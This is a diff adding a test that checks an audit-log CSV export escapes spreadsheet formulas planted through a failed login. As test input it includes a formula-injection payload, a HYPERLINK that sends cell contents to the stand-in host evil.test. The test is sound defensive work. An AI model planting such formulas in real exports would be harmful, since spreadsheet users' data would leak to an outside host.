@@ -203,3 +203,15 @@ def test_full_page_wraps_the_table_in_the_layout_and_filter_form(admin_client, l
     assert 'hx-get="/audit/"' in body
     assert 'id="events"' in body
     assert 'name="format" value="csv"' in body
+
+
+def test_csv_export_guards_formulas_an_anonymous_request_planted(tenant, anon_client, admin_client):
+    """A failed log-in from anyone lands its User-Agent and typed e-mail in the audit log; opened in a
+    spreadsheet, the Admin's export must show them as text, never run them."""
+    planted = '=HYPERLINK("http://evil.test/?"&A1,"Click")'
+    anon_client.post("/accounts/login/", {"username": "-2+3@x.test", "password": "wrong"}, HTTP_USER_AGENT=planted)
+    rows = csv_rows(admin_client.get(URL, {"action": "user.login_failed", "format": "csv"}))
+    row = dict(zip(rows[0], rows[1], strict=True))
+    assert row["user_agent"] == "'" + planted
+    assert row["actor"] == "'-2+3@x.test"
+    assert not any(cell[:1] and cell[:1] in "=+-@" for r in rows[1:] for cell in r if not cell.lstrip("-").isdigit())
